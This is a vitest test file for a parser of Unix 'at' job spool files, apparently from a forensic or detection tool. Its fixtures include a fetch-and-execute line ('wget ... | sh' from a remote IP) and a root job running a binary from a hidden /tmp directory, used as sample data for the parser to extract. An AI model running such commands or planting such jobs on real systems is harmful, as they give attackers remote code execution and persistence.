import { describe, expect, it } from 'vitest';
import { atJobName, parseAtJob, passwdNames } from './parse-at.ts';

const NEW_FORMAT = `#!/bin/sh
# atrun uid=1001 gid=1001
# mail alice 0
umask 22
SHELL=/bin/bash; export SHELL
HOME=/home/alice; export HOME
LANG=C.UTF-8; export LANG
cd /home/alice || {
	 echo 'Execution directory inaccessible' >&2
	 exit 1
}
\${SHELL:-/bin/sh} << 'marcinDELIMITER2f1c7a3b'
# fetch
wget -q -O- http://198.51.100.7/i.sh | sh

touch /tmp/done
marcinDELIMITER2f1c7a3b
`;

const OLD_FORMAT = `#!/bin/sh
# atrun uid=0 gid=0
# mail root 0
umask 22
PATH=/usr/bin:/bin; export PATH
cd /root || {
	 echo 'Execution directory inaccessible' >&2
	 exit 1
}
/tmp/.x/run
`;

describe('parseAtJob', () => {
  it('takes the commands inside the heredoc of the new format', () => {
    expect(parseAtJob(NEW_FORMAT, '/var/spool/cron/atjobs/a0000301c2b3c4')).toEqual({
      uid: 1001,
      commands: [
        {
          command: 'wget -q -O- http://198.51.100.7/i.sh | sh',
          where: { path: '/var/spool/cron/atjobs/a0000301c2b3c4', line: 14 },
        },
        { command: 'touch /tmp/done', where: { path: '/var/spool/cron/atjobs/a0000301c2b3c4', line: 16 } },
      ],
    });
  });

  it('takes the lines after the cd block in the old format', () => {
    expect(parseAtJob(OLD_FORMAT, '/var/spool/at/a00001019a2b3c')).toEqual({
      uid: 0,
      commands: [{ command: '/tmp/.x/run', where: { path: '/var/spool/at/a00001019a2b3c', line: 10 } }],
    });
  });

  it('without a cd block, skips the preamble lines', () => {
    const text = '#!/bin/sh\numask 22\nPATH=/bin; export PATH\n/usr/bin/backup --now\n';
    expect(parseAtJob(text, '/j')).toEqual({
      uid: null,
      commands: [{ command: '/usr/bin/backup --now', where: { path: '/j', line: 4 } }],
    });
  });
});

describe('atJobName', () => {
  it.each([
    ['a0000301c2b3c4', { queue: 'a', job: 3, runAt: new Date(0x1c2b3c4 * 60_000).toISOString() }],
    ['=00010001c2b3c4', undefined],
    ['b0001001c2b3c4', { queue: 'b', job: 16, runAt: new Date(0x1c2b3c4 * 60_000).toISOString() }],
    ['.SEQ', undefined],
    ['spool', undefined],
  ])('%s', (name, expected) => {
    expect(atJobName(name)).toEqual(expected);
  });
});

describe('passwdNames', () => {
  it('maps uids to the first name', () => {
    const names = passwdNames(
      'root:x:0:0::/root:/bin/sh\n# c\nalice:x:1001:1001::/home/alice:/bin/bash\ntoor:x:0:0::/:/bin/sh\nbroken\n',
    );
    expect([...names]).toEqual([
      [0, 'root'],
      [1001, 'alice'],
    ]);
  });
});
